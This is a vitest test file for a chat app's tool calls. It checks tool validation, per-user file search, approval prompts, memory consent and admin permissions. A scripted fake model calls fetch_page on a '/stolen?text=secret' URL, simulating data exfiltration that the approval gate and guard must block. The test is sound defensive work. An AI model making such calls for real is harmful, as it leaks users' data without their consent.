import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import type { ChatEvent } from '../../../shared/stream.ts';
import type { TestApp } from '../../../test/app.ts';
import { createTestChat } from '../../../test/chat.ts';
import { readAll, readEvents, textOf, type Client, type SeenEvent } from '../../../test/client.ts';
import { describeEachDatabase } from '../../../test/databases.ts';
import type { FakeLlm } from '../../../test/fake-llm/server.ts';

describeEachDatabase('tools in a chat', (database) => {
  let llm: FakeLlm;
  let app: TestApp;
  let anna: Client;
  let ben: Client;

  beforeAll(async () => {
    ({ app, llm } = await createTestChat({ env: { DATABASE_URL: database().url } }));
    anna = await app.person('anna');
    ben = await app.person('ben');
  });
  afterAll(() => app.close());
  beforeEach(() => llm.script({}));

  const calls = (name: string, args: object, more: object = {}) =>
    llm.script({ toolCalls: [{ name, arguments: args as Record<string, unknown> }], ...more });
  type Data<E extends ChatEvent['event']> = Extract<ChatEvent, { event: E }>['data'];
  const of = <E extends ChatEvent['event']>(events: SeenEvent[], event: E): Data<E>[] =>
    events.filter((one) => one.event === event).map(({ data }) => data as Data<E>);
  const metaOf = (events: SeenEvent[]) => {
    const [meta] = of(events, 'meta');
    if (!meta) throw new Error('no meta');
    return meta;
  };
  const toolParts = async (who: Client, conversationId: string | null) => {
    const { items } = (await who.get(`/api/conversations/${conversationId}/messages`)).body;
    return items.at(-1).parts.filter(({ type }: { type: string }) => type === 'tool');
  };

  /** A question whose tool asks first, read up to the point where it waits. */
  async function asked(who: Client, body: object = {}) {
    calls('fetch_page', { url: 'http://127.0.0.1:9/stolen?text=secret' });
    const stream = await who.fetch('POST', '/api/chat/stream', {
      content: 'What does the file say?',
      tools: ['fetch_page'],
      ...body,
    });
    const events: SeenEvent[] = [];
    const rest = readEvents(stream);
    for (;;) {
      const { value, done } = await rest.next();
      if (done) throw new Error(`nothing asked: ${JSON.stringify(events)}`);
      events.push(value);
      if (value.event === 'approval') return { events, rest, approval: value.data, meta: metaOf(events) };
    }
  }
  async function toEnd(rest: AsyncIterator<SeenEvent>): Promise<SeenEvent[]> {
    const events: SeenEvent[] = [];
    for (;;) {
      const { value, done } = await rest.next();
      if (done) return events;
      events.push(value as SeenEvent);
    }
  }

  it('lists them, and refuses one that is not there by its name', async () => {
    const { items } = (await anna.get('/api/tools')).body;
    expect(items.map(({ name }: { name: string }) => name)).toEqual([
      'search_files',
      'fetch_page',
      'calculator',
      'current_time',
      'web_search',
      'remember',
      'recall',
    ]);
    const refused = await anna.post('/api/chat/message', { content: 'Hi', tools: ['rm'] });
    expect(refused).toMatchObject({ status: 400, body: { code: 'VALIDATION_FAILED' } });
    expect(JSON.stringify(refused.body)).toContain('“rm”');
  });

  it('are offered only where they were asked for', async () => {
    await anna.chat({ content: 'Hello' });
    expect(llm.requests.at(-1)?.body['tools']).toBeUndefined();
    await anna.chat({ content: 'Hello', tools: false });
    expect(llm.requests.at(-1)?.body['tools']).toBeUndefined();
    await anna.chat({ content: 'Hello', tools: ['current_time'] });
    expect(llm.requests.at(-1)?.body['tools']).toMatchObject([{ function: { name: 'current_time' } }]);
  });

  it('are called, tell the model what they found, and stand in the answer after a reload as they did before', async () => {
    calls('calculator', { expression: '(2 + 3) * 8.4' }, { usage: { prompt: 10, completion: 5 } });
    const events = await anna.chat({ content: 'How much is it?', tools: ['calculator'] });
    const [call] = of(events, 'tool_call');
    expect(call).toMatchObject({ name: 'calculator', arguments: { expression: '(2 + 3) * 8.4' } });
    expect(of(events, 'tool_result')).toEqual([{ id: call?.id, content: '42', is_error: false }]);
    expect(textOf(events)).toContain('The tools said: 42');
    expect(events.at(-1)).toMatchObject({
      event: 'done',
      data: { usage: { prompt_tokens: 20, completion_tokens: 10 } },
    });

    const { conversation_id } = metaOf(events);
    const [part] = await toolParts(anna, conversation_id);
    expect(part).toMatchObject({
      name: 'calculator',
      round: 0,
      at: 0,
      approval: null,
      result: { content: '42', is_error: false },
    });

    llm.script({});
    await anna.chat({ content: 'And now?', conversation_id, tools: ['calculator'] });
    const sent = (llm.requests.at(-1)?.body['messages'] ?? []) as { role: string }[];
    expect(sent.map(({ role }) => role)).toEqual(['user', 'assistant', 'tool', 'assistant', 'user']);
    await anna.chat({ content: 'And without tools?', conversation_id });
    expect(JSON.stringify(llm.requests.at(-1)?.body['messages'])).not.toContain('tool_calls');
  });

  it('run side by side, and the error of one is told to the model', async () => {
    llm.script({
      toolCalls: [
        { name: 'calculator', arguments: { expression: '1 / 0' } },
        { name: 'no_such_tool', arguments: {} },
        { name: 'calculator', arguments: { expression: '6 * 7' } },
      ],
    });
    const events = await anna.chat({ content: 'Work it out', tools: ['calculator'] });
    const kinds = events.map(({ event }) => event);
    expect(kinds.lastIndexOf('tool_call')).toBeLessThan(kinds.indexOf('tool_result'));
    expect(of(events, 'tool_result').map(({ content, is_error }) => [content, is_error])).toEqual(
      expect.arrayContaining([
        ['Nothing can be divided by zero.', true],
        ['There is no tool “no_such_tool” here.', true],
        ['42', false],
      ]),
    );
    expect(events.at(-1)?.event).toBe('done');
  });

  it('search the files of the one who asks, and no one else’s, as sources that can be cited', async () => {
    await anna.uploadAndWait('harbour.txt', 'The harbour master keeps the golden key under the third stone.');
    calls('search_files', { query: 'golden key' });
    const hers = await anna.chat({ content: 'Where is it?', tools: ['search_files'] });
    expect(of(hers, 'tool_result')[0]?.content).toContain('[1] harbour.txt');
    expect(of(hers, 'sources').at(-1)?.items[0]?.source.title).toBe('harbour.txt');
    const his = await ben.chat({ content: 'Where is it?', tools: ['search_files'] });
    expect(of(his, 'tool_result')[0]?.content).toBe('Nothing in the files speaks of it.');
  });

  it('stop a model that never comes to an end', async () => {
    calls('current_time', {}, { keepsCalling: true });
    const events = await anna.chat({ content: 'What time is it?', tools: ['current_time'] });
    expect(of(events, 'tool_call')).toHaveLength(8);
    expect(events.at(-1)?.event).toBe('done');
  });

  it('that would reach what the person did not name wait for their word, and are not done without it', async () => {
    const { approval, meta, rest } = await asked(anna);
    expect(approval).toMatchObject({ name: 'fetch_page', arguments: { url: 'http://127.0.0.1:9/stolen?text=secret' } });
    const url = `/api/chat/generations/${meta.generation_id}/approve`;
    const body = { tool_call_id: approval.tool_call_id, allow: false };
    expect(await ben.post(url, body)).toMatchObject({ status: 404 });
    expect(await anna.post(url, { ...body, tool_call_id: 'another' })).toMatchObject({ status: 404 });
    expect(await anna.post(url, { ...body, allow: 'yes' })).toMatchObject({ status: 400 });
    expect((await toolParts(anna, meta.conversation_id))[0]).toMatchObject({ approval: 'asked', result: null });

    expect(await anna.post(url, body)).toMatchObject({ status: 200, body });
    const events = await toEnd(rest);
    expect(of(events, 'approved')).toEqual([{ tool_call_id: approval.tool_call_id, allow: false }]);
    expect(of(events, 'tool_result')[0]).toMatchObject({
      is_error: true,
      content: expect.stringContaining('did not allow'),
    });
    expect(events.at(-1)?.event).toBe('done');
    expect((await toolParts(anna, meta.conversation_id))[0]).toMatchObject({ approval: 'denied' });
    expect(await anna.post(url, body)).toMatchObject({ status: 200 });
    expect(await anna.post(url, { ...body, allow: true })).toMatchObject({ status: 409 });
  });

  it('take the word of a device that came later, and are not asked about again where the person says so', async () => {
    const { approval, meta, rest } = await asked(anna);
    await rest.return?.(undefined);
    const resumed = readAll(await anna.fetch('GET', `/api/chat/generations/${meta.generation_id}/stream`));
    const body = { tool_call_id: approval.tool_call_id, allow: true, always: true };
    expect((await anna.post(`/api/chat/generations/${meta.generation_id}/approve`, body)).status).toBe(200);
    const events = await resumed;
    expect(of(events, 'approval')).toHaveLength(1);
    // Allowed by the person, and refused by the guard all the same.
    expect(of(events, 'tool_result')[0]?.is_error).toBe(true);

    const { conversation_id } = meta;
    const again = await anna.chat({ content: 'Once more', conversation_id, tools: ['fetch_page'] });
    expect(of(again, 'approval')).toHaveLength(0);
    expect(of(again, 'tool_result')).toHaveLength(1);
    const elsewhere = await asked(anna);
    await anna.delete(`/api/chat/generations/${elsewhere.meta.generation_id}`);
    await toEnd(elsewhere.rest);
  });

  it('that wait end with Stop, and can be answered no more', async () => {
    const { approval, meta, rest } = await asked(anna);
    await anna.delete(`/api/chat/generations/${meta.generation_id}`);
    expect((await toEnd(rest)).at(-1)?.event).toBe('stopped');
    const body = { tool_call_id: approval.tool_call_id, allow: true };
    expect(await anna.post(`/api/chat/generations/${meta.generation_id}/approve`, body)).toMatchObject({ status: 409 });
    expect((await toolParts(anna, meta.conversation_id))[0]).toMatchObject({ approval: 'asked', result: null });
  });

  it('ask in a temporary chat, too', async () => {
    const { approval, meta, rest } = await asked(anna, { temporary: true });
    const url = `/api/chat/generations/${meta.generation_id}/approve`;
    const body = { tool_call_id: approval.tool_call_id, allow: false };
    expect(await ben.post(url, body)).toMatchObject({ status: 404 });
    expect(await anna.post(url, body)).toMatchObject({ status: 200 });
    expect((await toEnd(rest)).at(-1)?.event).toBe('done');
  });

  it('remember only with the person’s word, and recall what is kept, where memory is on', async () => {
    calls('remember', { fact: 'The user sails a boat called Nore.' });
    const stream = await anna.openStream('POST', '/api/chat/stream', {
      content: 'My boat is Nore',
      tools: ['remember'],
    });
    let generation = '';
    let conversation: string | null = null;
    for await (const { event, data } of readEvents(stream)) {
      if (event === 'meta') [generation, conversation] = [data.generation_id, data.conversation_id];
      if (event !== 'approval') continue;
      expect((await anna.get('/api/memories')).body.items).toEqual([]);
      await anna.post(`/api/chat/generations/${generation}/approve`, { tool_call_id: data.tool_call_id, allow: true });
    }
    const [kept] = (await anna.get('/api/memories')).body.items;
    expect(kept).toMatchObject({ content: 'The user sails a boat called Nore.', conversation_id: conversation });

    calls('recall', { query: 'boat' });
    const recalled = await anna.chat({ content: 'What is my boat?', tools: ['recall'] });
    expect(of(recalled, 'tool_result')[0]?.content).toContain('Nore');
    expect(of(await ben.chat({ content: 'Her boat?', tools: ['recall'] }), 'tool_result')[0]?.content).toBe(
      'Nothing is remembered.',
    );
    await anna.patch(`/api/conversations/${conversation}`, { memory: false });
    const off = await anna.chat({ content: 'And now?', conversation_id: conversation, tools: ['recall'] });
    expect(of(off, 'tool_result')[0]).toMatchObject({ is_error: true });
    await anna.patch('/api/memories/settings', { enabled: false });
    expect(of(await anna.chat({ content: 'Now?', tools: ['recall'] }), 'tool_result')[0]).toMatchObject({
      is_error: true,
    });
  });

  it('are not there for those whom an admin lets use none', async () => {
    const everybody = (allowed: boolean) => anna.put('/api/admin/permissions', { tools: allowed });
    expect((await everybody(false)).status).toBe(200);
    expect((await ben.get('/api/tools')).body.items).toEqual([]);
    expect(await ben.post('/api/chat/message', { content: 'Hi', tools: ['calculator'] })).toMatchObject({
      status: 403,
      body: { code: 'FORBIDDEN' },
    });
    expect((await ben.post('/api/chat/message', { content: 'Hi' })).status).toBe(200);
    expect((await anna.get('/api/tools')).body.items).not.toEqual([]);
    const group = (await anna.post('/api/admin/groups', { name: 'Handy', permissions: { tools: true } })).body;
    await anna.put(`/api/admin/groups/${group.id}/members/${ben.id}`);
    expect((await ben.get('/api/tools')).body.items).not.toEqual([]);
    await everybody(true);
  });

  it('do not ask about an address that the person named', async () => {
    calls('fetch_page', { url: 'http://127.0.0.1:9/page' });
    const events = await anna.chat({ content: 'Read http://127.0.0.1:9/page.', tools: ['fetch_page'] });
    expect(of(events, 'approval')).toHaveLength(0);
    expect(of(events, 'tool_result')[0]).toMatchObject({ is_error: true });
  });
});
